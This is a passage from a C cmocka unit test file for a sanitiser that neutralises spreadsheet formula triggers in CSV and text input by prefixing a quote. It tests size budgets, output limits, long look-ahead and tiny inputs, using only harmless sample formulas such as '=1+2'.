	assert_int_equal(tu_direct(csv, sizeof(csv) - 1, "t.csv", &b, &out), SK_REASON_NONE);
	assert_non_null(strstr(sk_buf_str(&out), "'=1+2"));
	sk_buf_free(&out);
	assert_int_equal(tu_direct(txt, sizeof(txt) - 1, "t.txt", &b, NULL), SK_REASON_NONE);
}

static void budget_limit(void **state)
{
	(void)state;
	/* all-formula cells: every ' is charged to the budget */
	sk_buf b;
	sk_buf_init(&b, 0);
	for (int i = 0; i < 1000; i++)
		sk_buf_adds(&b, "=1,=2,=3\n");
	sk_options o;
	sk_options_default(&o);
	o.budget.max_expanded = 2000;
	tu_run r;
	tu_process(b.data, b.len, "f.csv", &o, &r);
	assert_verdict(&r, SK_VERDICT_BLOCKED);
	assert_reason(&r, SK_REASON_LIMIT_SIZE);
	tu_free(&r);
	o.budget.max_expanded = 3000;
	tu_process(b.data, b.len, "f.csv", &o, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_int_equal(r.out.len, b.len + 3000);
	assert_int_equal(entry(&r.res.report, "formula")->count, 3000);
	tu_free(&r);
	sk_buf_free(&b);
}

static void output_limit(void **state)
{
	(void)state;
	struct mod_run m;
	sk_report_init(&m.rep);
	sk_buf_init(&m.out, 10);
	sk_budget bud;
	sk_budget_default(&bud);
	sk_cdr_ctx ctx = {.budget = &bud, .report = &m.rep, .profile = sk_profile_default(),
			  .where = "", .type = {.kind = SK_KIND_CSV}};
	sk_input in;
	sk_input_mem(&in, S("0123456789,=a\n"));
	sk_output o;
	sk_output_buf(&o, &m.out);
	sk_error err;
	sk_error_clear(&err);
	assert_int_equal(sk_cdr_find(&ctx.type)->sanitize(&ctx, &in, &o, &err), SK_ELIMIT);
	mod_free(&m);
}

static void long_lookahead(void **state)
{
	(void)state;
	/* a sign followed by more white space than the look-ahead window: neutralised
	 * (fail closed); an ordinary long cell is not */
	sk_buf b;
	sk_buf_init(&b, 0);
	sk_buf_adds(&b, "a,\"-");
	for (int i = 0; i < 10000; i++)
		sk_buf_addc(&b, ' ');
	sk_buf_adds(&b, "5\"\nb,");
	for (int i = 0; i < 10000; i++)
		sk_buf_addc(&b, 'x');
	sk_buf_adds(&b, "\n");
	struct mod_run m;
	run_module(b.data, b.len, SK_KIND_CSV, "l.csv", NULL, NULL, 0, &m);
	assert_int_equal(m.rc, 0);
	assert_int_equal(m.out.len, b.len + 1);
	assert_memory_equal(m.out.data, "a,\"'-", 5);
	mod_free(&m);
	sk_buf_free(&b);
}

static void empty_and_tiny(void **state)
{
	(void)state;
	expect_clean("", 0, "e.txt");
	expect_clean(S("\n"), "e.csv");
	tu_run r;
	expect_out(S("="), "e.csv", S("'="), &r);
	tu_free(&r);
	struct mod_run m;
	run_module(S("\"=1"), SK_KIND_CSV, "e.csv", NULL, NULL, 1, &m);
	assert_int_equal(m.rc, 0);
	assert_bytes(&m.out, S("\"'=1"));
	mod_free(&m);
	run_module(S("\x1b"), SK_KIND_TEXT, "e.txt", NULL, NULL, 0, &m);
	assert_int_equal(m.rc, 0);
	assert_int_equal(m.out.len, 0);
	mod_free(&m);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(cp932_crlf_kept),
		cmocka_unit_test(eucjp_kept),
		cmocka_unit_test(utf8_bom_kept),
		cmocka_unit_test(utf16le_tsv),
		cmocka_unit_test(utf16be_and_nul),
		cmocka_unit_test(iso2022jp_kept),
		cmocka_unit_test(iso2022jp_changed),
		cmocka_unit_test(iso2022jp_raw_reading),
		cmocka_unit_test(control_chars),
		cmocka_unit_test(nul_stripped),
		cmocka_unit_test(c1_only_in_utf8),
		cmocka_unit_test(every_trigger),
		cmocka_unit_test(dde),
		cmocka_unit_test(quoted_fields),
		cmocka_unit_test(numbers_untouched),
		cmocka_unit_test(phone_numbers_untouched),
		cmocka_unit_test(separators),
		cmocka_unit_test(sjis_trail_bytes),
		cmocka_unit_test(cp932_neutralised_valid),
		cmocka_unit_test(text_kind_not_neutralised),
		cmocka_unit_test(chunk_boundaries),
		cmocka_unit_test(chunk_boundary_default),
		cmocka_unit_test(utf16_chunks),
		cmocka_unit_test(budget_limit),
		cmocka_unit_test(time_limit),
		cmocka_unit_test(output_limit),
		cmocka_unit_test(long_lookahead),
		cmocka_unit_test(empty_and_tiny),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
